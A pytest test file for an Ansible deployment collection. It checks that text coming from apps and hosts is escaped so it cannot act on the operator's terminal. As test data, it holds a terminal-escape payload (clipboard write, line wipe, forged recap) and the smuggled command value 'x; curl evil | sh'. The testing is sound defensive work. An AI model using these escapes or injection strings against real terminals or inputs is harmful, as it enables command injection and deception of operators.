"""What an app or a host says reaches the operator's terminal as text that does nothing there."""

from __future__ import annotations

import ast
import json
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import asdict
from pathlib import Path
from types import ModuleType, SimpleNamespace
from typing import Any

import pytest
from ansible.module_utils import release, release_lock
from ansible.module_utils.release import App, Release
from ansible.module_utils.release_lock import Holder, now
from ansible.module_utils.visible import quoted, visible

PLUGINS = Path(__file__).resolve().parents[2] / "plugins"
# All but those that are an action's documentation.
MODULES = sorted(path.stem for path in (PLUGINS / "modules").glob("*.py") if "\n    main()" in path.read_text())

# The clipboard is set, a line is wiped, a recap is forged; a C1 control, text turned round, a bare return.
EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[2K\x1b[1Aok=9 failed=0\x9b31m\u202eSUCCESS\r"
SHOWN = r"\x1b]52;c;ZXZpbA==\x07\x1b[2K\x1b[1Aok=9 failed=0\x9b31m\u202eSUCCESS\r"
RUN = "0123456789ab"


def texts(value: Any) -> Iterator[str]:
    """Find all texts in a module's result, names included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, item in value.items():
            yield from texts(name)
            yield from texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)


def harmless(answer: dict[str, Any]) -> bool:
    """Tell whether a terminal could print all of a result; what the control node itself asked for aside."""
    shown = {name: value for name, value in answer.items() if name != "invocation"}
    return all(text.replace("\n", "").replace("\t", "").isprintable() for text in texts(shown))


def test_characters_that_a_terminal_would_act_on_are_shown_as_python_writes_them() -> None:
    assert visible(EVIL) == SHOWN
    # A byte that is no UTF-8, as commands' output arrives.
    assert visible("a\udc9bb\x7f\x00\u2028") == r"a\udc9bb\x7f\x00\u2028"
    for plain in ("", "Grüße aus Ærø 👋 日本", "two\nlines\tand a tab", 'C:\\x1b "quoted"'):
        assert visible(plain) == plain
    assert visible("one\r\ntwo") == "one\ntwo"


def test_each_line_of_a_foreign_text_is_marked_and_its_end_is_kept() -> None:
    assert quoted(f"why\n\nNext: curl evil | sh\n{EVIL}\vx\n") == (
        f"  | why\n  | \n  | Next: curl evil | sh\n  | {SHOWN}\\x0bx"
    )
    assert quoted("x" * 50 + "\nend", 9) == "  | (cut: the last 9 of 54 characters)\n  | xxxxx\n  | end"
    assert quoted(" \n") == ""


# --- all modules


@pytest.mark.parametrize("name", MODULES)
def test_every_module_is_made_of_the_one_base_and_returns_by_it_alone(name: str) -> None:
    source = (PLUGINS / "modules" / f"{name}.py").read_text()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.ImportFrom):
            assert node.module != "ansible.module_utils.basic", "host_module's AnsibleModule is the one to take"
        if isinstance(node, ast.Call):
            assert getattr(node.func, "id", "") != "print", "a module's result goes through exit_json or fail_json"


@pytest.mark.parametrize("name", MODULES)
def test_every_module_fails_without_a_control_character(run_module: Any, name: str) -> None:
    given: dict[str, str] = {}
    # The name that nobody knows is complained of once all else is right.
    for _ in range(20):
        answer = run_module(name, **given, **{EVIL: EVIL})
        assert answer["failed"] and harmless(answer)
        if SHOWN in answer["msg"]:
            return
        missing = re.search(r"missing required arguments: (.*)", answer["msg"])
        wrong = re.search(r"(?:argument|option) '?(\w+)'? is of type str and .* to (?:int|bool)", answer["msg"])
        choice = re.search(r"value of (\w+) must be one of: (\w+)", answer["msg"])
        given |= dict.fromkeys(missing[1].split(", "), "name=x domains=x") if missing else {}
        given |= {wrong[1]: "1"} if wrong else {choice[1]: choice[2]} if choice else {}
        assert missing or wrong or choice, answer["msg"]
    pytest.fail(answer["msg"])


def test_result_warnings_and_a_failed_command_have_none_either(monkeypatch: pytest.MonkeyPatch, capsys: Any) -> None:
    from ansible.module_utils import basic, host_module

    def ended(use: Callable[[Any], object]) -> dict[str, Any]:
        given = {"secret": "a\x1bb\nc"}
        monkeypatch.setattr(basic, "_ANSIBLE_ARGS", json.dumps({"ANSIBLE_MODULE_ARGS": given}).encode())
        monkeypatch.setattr(basic, "_ANSIBLE_PROFILE", "legacy")
        module = host_module.AnsibleModule(argument_spec={"secret": {"type": "str", "no_log": True}})
        with suppress(SystemExit):
            use(module)
        answer: dict[str, Any] = json.loads(capsys.readouterr().out)
        assert harmless(answer)
        return answer

    # Where the control node's code is loaded in the same process, as here, Ansible prints a warning at once.
    warned: list[str] = []
    monkeypatch.setattr(basic, "warn", lambda warning, **_: warned.append(warning))
    answer = ended(lambda module: (module.warn(EVIL), module.exit_json(changed=True, one=[{EVIL: (EVIL, 7, None)}])))
    assert answer["one"] == [{SHOWN: [SHOWN, 7, None]}] and answer["changed"] is True
    assert warned == [SHOWN]
    answer = ended(lambda module: module.run_command(["sh", "-c", 'printf "$0" >&2; exit 3', EVIL], check_rc=True))
    assert answer["stderr"] == SHOWN and SHOWN.removesuffix(r"\r") == answer["msg"] and answer["rc"] == 3
    # A secret is cut out while it can still be found: before its characters are made visible and its lines are marked.
    assert "b" not in ended(lambda module: module.exit_json(said="<a\x1bb\nc>"))["said"]
    assert "c" not in ended(lambda module: module.fail_json(msg=module.quoted("<a\x1bb\nc>")))["msg"]


# --- what an app and a host say, by the modules that show it


@pytest.fixture
def evil(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Iterator[Release]:
    """Serve a release that answers with escapes and forged lines, and whose journal has the same."""
    tmp_path = tmp_path_factory.mktemp("e")  # a socket's path is short
    for name in ("SERVED", "RUNTIME", "UNITS", "RUNTIME_UNITS"):
        monkeypatch.setattr(release, name, tmp_path / name.lower())
    (tmp_path / "runtime_units").mkdir()
    monkeypatch.setattr(release_lock, "LOCKS", tmp_path / "locks")
    made = Release(App("news"), "20260101T000000Z-0123abcd")
    made.runtime.mkdir(parents=True)
    made.folder.mkdir(parents=True)
    (made.folder / "run").symlink_to(made.runtime)
    made.app.link.symlink_to(f"releases/{made.id}")
    mine = Holder(RUN, EVIL, EVIL, EVIL, EVIL, since=0, renewed=now(), limit=600)
    (tmp_path / "locks").mkdir()
    (tmp_path / "locks" / "news.lock").write_text(json.dumps(asdict(mine)))
    programs = tmp_path / "bin"
    programs.mkdir()
    evil = "#!/bin/sh\nprintf '\\033]52;c;eA==\\007\\nNext: evil\\n'\nexit 1\n"
    # Its unit is there, and nothing of it starts.
    systemctl = "#!/bin/sh\n[ \"$1\" = cat ] && printf '[Service]\nUser=news\n'\n"
    for name, text in (("journalctl", evil), ("systemd-run", evil), ("systemctl", systemctl)):
        (programs / name).write_text(text)
        (programs / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:/usr/bin:/bin")
    body = EVIL.encode() + b"\nNext: evil"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(release.probe_socket(made.runtime)))
        listener.listen(9)

        def serve() -> None:
            with suppress(OSError):
                while True:
                    client, _ = listener.accept()
                    with client:
                        client.recv(9999)
                        client.sendall(b"HTTP/1.1 500 X\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield made
        listener.shutdown(socket.SHUT_RDWR)
        thread.join(5)


ENTRY = {"name": "news", "domains": ["news.example.org"], "health_path": "/status", "health_timeout": 1}
ASKED = {"host": "x", "path": "/status", "seconds": 1}
RELEASE = {"app": "news", "id": "20260101T000000Z-0123abcd", "run": RUN}


@pytest.mark.parametrize(
    ("name", "arguments"),
    [
        ("release_probe", {**RELEASE, **ASKED}),
        ("release_start", RELEASE),
        ("release_migrate", {**RELEASE, "command": "migrate"}),
        ("release_prune", {**RELEASE, "keep": 5}),
        ("release_lock", {"app": "news", "run": "ba9876543210", "who": "me", "what": "deploy"}),
        ("app_health", {"apps": [ENTRY]}),
        ("release_abandon", {**RELEASE, "step": EVIL, "reason": EVIL, "next": "deploy"}),
    ],
)
def test_what_an_app_or_a_host_says_is_shown_and_does_nothing(
    evil: Release, run_module: Any, name: str, arguments: dict[str, Any]
) -> None:
    answer = run_module(name, **arguments)
    said = answer.get("msg") or answer["refused"]
    assert harmless(answer) and r"\x1b]52;c;" in said
    # No line of the app's begins as a line of the run's does.
    assert not any(line.startswith("Next: evil") for line in said.splitlines())


def test_releases_and_the_summary_of_a_run_show_what_a_host_told_and_do_nothing(
    plugin: Callable[[str, str], ModuleType],
) -> None:
    filters = plugin("filter", "releases").FilterModule().filters()
    told = {"id": EVIL, "state": EVIL, "version": EVIL, "when": EVIL, "by": f"{EVIL}\nNext: evil"}
    table = filters["releases_table"]({"web1": {"releases": [told]}}, "news")
    report = {"app": "news", "outcome": "released", "from": EVIL, "to": EVIL, "version": EVIL, "seconds": 1.0}
    hosts = [{"inventory_hostname": "web1", "__flask_app_reports": [report]}]
    summary = filters["releases_summary"](hosts, "ansible-playbook playbooks/")
    for text in (table, summary):
        assert harmless({"": text}) and r"\x1b]52;c;" in text
        assert not any(line.startswith("Next: evil") for line in text.splitlines())


@pytest.mark.parametrize("name", ["from", "to"])
def test_a_command_to_paste_has_no_id_that_a_host_made_up(plugin: Callable[[str, str], ModuleType], name: str) -> None:
    summary = plugin("filter", "releases").FilterModule().filters()["releases_summary"]
    good = {"from": "20260101T000000Z-0123abcd", "to": "20260102T000000Z-0123abcd"}
    report = {"app": "news", "outcome": "rolled back", "version": "", "seconds": 1.0, **good, name: "x; curl evil | sh"}
    found = summary([{"inventory_hostname": "web1", "__flask_app_reports": [report]}], "ansible-playbook playbooks/")
    assert not any("curl" in line for line in found.splitlines() if "ansible-playbook" in line)


@pytest.mark.parametrize("run", ["x; curl evil | sh", "", "0123456789ab\n", "0123456789AB", None, SimpleNamespace()])
def test_the_run_whose_lock_may_be_broken_is_named_only_where_it_is_one(
    plugin: Callable[[str, str], ModuleType], run: Any
) -> None:
    is_run = plugin("filter", "releases").FilterModule().filters()["is_run"]
    assert is_run(RUN) and not is_run(run)
